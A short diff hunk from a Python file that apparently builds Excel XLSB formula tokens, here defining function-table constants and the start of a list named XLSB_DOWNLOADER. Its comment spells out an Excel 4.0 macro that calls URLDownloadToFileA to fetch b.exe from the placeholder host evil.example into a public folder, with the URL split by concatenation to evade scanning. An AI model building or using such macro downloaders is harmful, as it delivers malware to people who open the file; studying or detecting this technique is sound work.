@@ -164,7 +164,7 @@ def ptgx_funcvar(index: int, argc: int) -> bytes:
     return b"\x42" + struct.pack("<BH", argc, index)
 
 
-CALL = 150  # Ftab ([MS-XLSB] 2.5.98.10): EXEC 110, HALT 54, CALL 150
+CALL, GET_DOCUMENT = 150, 188  # Ftab ([MS-XLSB] 2.5.98.10): EXEC 110, HALT 54 as for BIFF8
 XLSB_DOWNLOADER = [
     # CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://"&"evil.example/b.exe",
     #      "c:\users\public\b.exe",0,0): the URL exists only once the concatenation is evaluated.
